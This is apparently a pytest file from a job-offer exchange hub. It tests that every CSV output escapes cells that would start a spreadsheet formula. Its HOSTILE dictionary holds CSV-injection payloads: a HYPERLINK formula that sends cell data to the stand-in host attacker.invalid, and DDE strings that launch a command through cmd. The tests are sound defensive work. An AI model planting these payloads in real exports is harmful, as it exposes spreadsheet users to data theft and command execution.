"""Formula injection: every CSV the project writes neutralises cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from spehub.v1 import delivery_pb2, envelope_pb2

from hub import csvout
from hub.domain.records import PayloadKind
from hub.gateway import Inbox, Receiver, fetch_directory
from hub.services.statistics import Cell, Corridor
from tests.support.gateways import SN, participant_channel, sn_inbox
from tests.support.records import demo_offer

ROOT = Path(__file__).resolve().parent.parent
FT = "fr-francetravail"
HOSTILE = {
    "title": '=HYPERLINK("http://attacker.invalid/?"&A1,"Cliquez ici")',
    "employer": "+cmd|' /C calc'!A0",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "locality": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.mark.parametrize("value", list(HOSTILE.values()), ids=list(HOSTILE))
def test_a_cell_that_starts_a_formula_is_written_as_text(value):
    assert csvout.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["+221770000000", "-12", "-3.5", "12", "Maçon", "", "a=b", "1-2"])
def test_plain_numbers_and_text_are_left_as_they_are(value):
    assert csvout.neutralise(value) == value


def _starts_a_formula(cell: str) -> bool:
    return cell.startswith(csvout.FORMULA_START) and not csvout.PLAIN_NUMBER.fullmatch(cell)


def test_the_tabular_inbox_neutralises_another_participants_offer(
    hub, test_pki, codelists, tmp_path, connect
):
    ft = connect(FT)
    offer = demo_offer(FT, "o-hostile", 1, ft.clock(), targets=("SN",))
    offer.title = HOSTILE["title"]
    offer.employer.name = HOSTILE["employer"]
    offer.description = HOSTILE["description"]
    offer.place.locality = HOSTILE["locality"]
    results = ft.publish_one_batch([ft.seal(offer, PayloadKind.JOB_OFFER)])
    assert results[0].outcome == 1, results[0].message
    inbox = sn_inbox(codelists, tmp_path)
    with participant_channel(hub.port, test_pki, SN) as channel:
        report = Receiver(inbox, fetch_directory(channel)).run(channel)
    inbox.close()
    assert report.written == 1
    (path,) = (tmp_path / "inbox" / "records" / FT).glob("*.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle, delimiter=";"))
    assert row["intitule"] == "'" + HOSTILE["title"]
    assert row["employeur"] == "'" + HOSTILE["employer"]
    assert row["description"] == "'" + HOSTILE["description"]
    assert row["lieu_de_travail"] == "'" + HOSTILE["locality"]
    assert not [cell for cell in row.values() if _starts_a_formula(cell)]


def test_the_notices_file_neutralises_its_cells(tmp_path, codelists):
    inbox = Inbox(tmp_path / "inbox", object())
    delivery = delivery_pb2.Delivery(sequence=7, kind=delivery_pb2.DELIVERY_KIND_WITHDRAWAL)
    ref = delivery_pb2.RecordRef(
        origin_participant_id=FT,
        payload_type=envelope_pb2.PAYLOAD_TYPE_JOB_OFFER,
        record_id="-2-3",
        version=1,
    )
    inbox.notice(delivery, ref, "withdrawal", "=1+1")
    inbox.close()
    with (tmp_path / "inbox" / "notices.csv").open(encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert (row["record_id"], row["note"]) == ("'-2-3", "'=1+1")


def test_the_stats_csv_neutralises_its_cells(monkeypatch, capsys, tmp_path):
    from hub.entrypoints import stats
    from hub.entrypoints.cli import main

    hostile = Cell(Corridor("=1+1", "SN", "FR", "@seasonal", "9", "2026-11"), 7)
    monkeypatch.setattr(stats, "cells", lambda *_args, **_kw: [hostile])
    monkeypatch.setenv("SPEHUB_DATABASE_URL", f"sqlite:///{tmp_path / 'hub.sqlite3'}")
    assert main(["stats", "--csv"]) == 0
    (row,) = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert (row["kind"], row["mobility"], row["count"]) == ("'=1+1", "'@seasonal", "7")


def test_every_csv_writer_goes_through_csvout():
    """A CSV written with the standard library's writer directly would skip the neutralising."""
    pattern = re.compile(r"csv\.(?:writer|DictWriter)\(")
    found = [
        str(path.relative_to(ROOT))
        for folder in ("hub", "adapters")
        for path in (ROOT / folder).rglob("*.py")
        if path.name != "csvout.py" and pattern.search(path.read_text())
    ]
    assert found == []
